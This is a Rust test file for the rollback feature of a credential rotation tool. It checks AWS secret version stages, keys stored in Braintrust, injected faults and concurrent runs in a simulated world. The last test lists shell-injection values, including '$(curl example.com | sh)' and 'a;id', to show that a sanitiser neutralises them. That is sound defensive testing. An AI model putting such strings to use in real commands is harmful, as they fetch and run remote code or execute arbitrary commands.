//! Rollbacks in a [`World`], alone and beside other runs: what they leave behind.

use super::*;
use crate::rotation::restore::Comparison;
use crate::rotation::test_world::{Fault, State, World};

/// AKIANOW is current and in Braintrust, and AKIAOLD was current before.
async fn rotated() -> World {
    World::with_access_keys().await.given(|state| {
        state.stage_key("old", "AWSCURRENT", "AKIAOLD", -900);
        state.stage_key("now", "AWSCURRENT", "AKIANOW", -100);
        state.store("AKIANOW");
    })
}

async fn roll_back(world: &World, reactivate: bool) -> TargetReport {
    world.run(run(world.target_run(), false, reactivate)).await
}

/// After a refused or failed rollback, AKIANOW is current and in Braintrust, and no version is labelled.
fn assert_unchanged(world: &World, case: &str) {
    let state = world.state();
    assert_eq!(state.staged("AWSCURRENT").unwrap(), "AKIANOW", "{case}");
    assert_eq!(state.in_braintrust(), ["AKIANOW"], "{case}");
    for label in ["RESTORING_", "ROLLED_BACK"] {
        assert_eq!(state.version_labelled(label), None, "{case}");
    }
}

#[tokio::test(start_paused = true)]
async fn the_stages_move_before_braintrust_is_written_and_the_label_is_set_during_both() {
    let world = rotated().await;
    assert_eq!(roll_back(&world, false).await.outcome, Outcome::RolledBack);
    let expected = [
        "UpdateSecretVersionStage RESTORING_old old",
        "UpdateSecretVersionStage ROLLED_BACK now",
        "UpdateSecretVersionStage PROMOTED_old old",
        "UpdateSecretVersionStage AWSCURRENT old",
        "PATCH 1",
        "UpdateSecretVersionStage RESTORING_old",
    ];
    assert_eq!(world.changes_without_times(), expected);
    assert_eq!(world.state().in_braintrust(), ["AKIAOLD"]);
}

#[tokio::test(start_paused = true)]
async fn a_deactivated_key_is_activated_only_if_the_rollback_says_so() {
    let world = rotated().await.given(|state| {
        state.deactivate("AKIAOLD");
        state.move_stage("DEACTIVATING", Some("old"));
    });
    let refused = roll_back(&world, false).await.error.unwrap();
    assert!(refused.class == ErrorClass::Conflict && refused.remedy.contains("reactivate"), "{refused}");
    assert_unchanged(&world, "refused");
    assert_eq!(roll_back(&world, true).await.outcome, Outcome::RolledBack);
    assert!(world.state().is_active("AKIAOLD"));
    assert_eq!(world.state().in_braintrust(), ["AKIAOLD"]);
    assert_eq!(world.state().version_with("DEACTIVATING"), None);
}

#[tokio::test(start_paused = true)]
async fn a_key_that_another_run_has_begun_to_retire_is_not_restored() {
    for label in ["DEACTIVATING", "DELETING"] {
        // Before the rollback sets its own label, and between that and its second snapshot.
        for calls_before in [1, 2] {
            let announce = move |state: &mut State| state.move_stage(label, Some("old"));
            let world = rotated().await.before("DescribeSecret", calls_before, announce);
            let report = roll_back(&world, false).await;
            assert_eq!(report.error.unwrap().class, ErrorClass::Conflict, "{label} {calls_before}");
            assert_unchanged(&world, label);
        }
    }
}

#[tokio::test(start_paused = true)]
async fn a_write_that_fails_moves_the_stages_back_and_restores_the_current_credentials() {
    let world = rotated().await.once("PATCH", Fault::Status(403));
    let report = roll_back(&world, false).await;
    let error = report.error.unwrap();
    assert!(error.class == ErrorClass::Permission && error.remedy.starts_with("Braintrust holds"), "{error}");
    assert_unchanged(&world, "403");
    assert_eq!(world.state().staged("AWSPREVIOUS").unwrap(), "AKIAOLD");
}

#[tokio::test(start_paused = true)]
async fn a_rollback_that_loses_the_stage_to_a_rotation_changes_nothing() {
    let promote = |state: &mut State| {
        state.stage_existing("new", "AWSCURRENT", "AKIANOW");
    };
    let world = rotated().await.before("UpdateSecretVersionStage AWSCURRENT", 1, promote);
    let error = roll_back(&world, false).await.error.unwrap();
    assert!(error.class == ErrorClass::Conflict && error.problem.contains("another run has moved"), "{error}");
    assert_eq!(world.state().version_with("AWSCURRENT").unwrap(), "new");
    assert_eq!((world.count("PATCH"), world.state().version_labelled("RESTORING_")), (0, None));
}

#[tokio::test(start_paused = true)]
async fn credentials_that_become_current_during_the_write_are_the_ones_that_braintrust_gets() {
    let promote = |state: &mut State| {
        state.stage_existing("new", "AWSCURRENT", "AKIANOW");
    };
    let world = rotated().await.before("PATCH", 1, promote);
    let error = roll_back(&world, false).await.error.unwrap();
    assert_eq!(error.class, ErrorClass::Conflict);
    assert_eq!(world.state().in_braintrust(), ["AKIANOW"]);
    assert_eq!(world.state().version_labelled("RESTORING_"), None);
}

#[tokio::test(start_paused = true)]
async fn a_dry_run_changes_nothing() {
    let world = rotated().await;
    let report = world.run(run(world.target_run(), true, false)).await;
    assert_eq!((report.outcome, world.changes_and_labels()), (Outcome::WouldRollBack, Vec::new()));
}

#[tokio::test(start_paused = true)]
async fn a_rollback_that_could_neither_write_everywhere_nor_restore_is_repaired_once_its_run_has_ended() {
    let world = World::with_api_keys().await.with_destinations(2).given(|state| {
        state.stage_key("old", "AWSCURRENT", "ACCAOLD", -200);
        state.stage_key("now", "AWSCURRENT", "ACCANOW", -100);
        state.store("ACCANOW");
    });
    // The second destination refuses, and the current credentials can't be proven after that.
    let world = world.once("PATCH 2", Fault::Status(400));
    let world = world.from("ListFoundationModels", 2, Fault::Code("AccessDeniedException"));
    assert_eq!(roll_back(&world, false).await.outcome, Outcome::Failed);
    assert_eq!(world.state().staged("AWSCURRENT").unwrap(), "ACCANOW");
    assert_eq!(world.state().in_braintrust(), ["ACCAOLD", "ACCANOW"]);
    world.settle();
    world.state().end_the_overlap();
    let reconcile = async {
        let staged = world.staged_run();
        let snapshot = staged.snapshot().await.ok().unwrap();
        staged.reconcile(&snapshot).await.map(|found| found == Comparison::OutOfStep)
    };
    assert!(world.run(reconcile).await.unwrap());
    assert_eq!(world.state().in_braintrust(), ["ACCANOW"; 2]);
}

#[tokio::test(start_paused = true)]
async fn a_reactivation_that_is_interrupted_can_be_repeated() {
    let world = rotated().await.given(|state| {
        state.deactivate("AKIAOLD");
        state.move_stage("DEACTIVATING", Some("old"));
    });
    let world = world.once("UpdateAccessKey", Fault::Status(400));
    assert_eq!(roll_back(&world, true).await.outcome, Outcome::Failed);
    assert_eq!(roll_back(&world, true).await.outcome, Outcome::RolledBack);
    assert_eq!(world.state().in_braintrust(), ["AKIAOLD"]);
}

#[tokio::test(start_paused = true)]
async fn a_rollback_waits_for_a_run_that_gives_way_to_it() {
    let world = rotated().await.before("DescribeSecret", 2, |state| state.move_stage("DELETING", Some("old")));
    let world = world.before("DescribeSecret", 3, |state| state.move_stage("DELETING", None));
    assert_eq!(roll_back(&world, false).await.outcome, Outcome::RolledBack);
    assert_eq!(world.state().in_braintrust(), ["AKIAOLD"]);
}

#[test]
fn a_version_that_somebody_else_named_is_harmless_in_a_command() {
    let usual = "8f0e4a53-9d3b-4f6f-8a7c-4e105f1c9a52";
    assert_eq!(in_a_command(usual), usual);
    for named in ["$(curl example.com | sh) xxxxxxxxxxx", "`id`", "a;id", "a'b", "a b"] {
        assert_eq!(in_a_command(named), "<version>");
    }
}
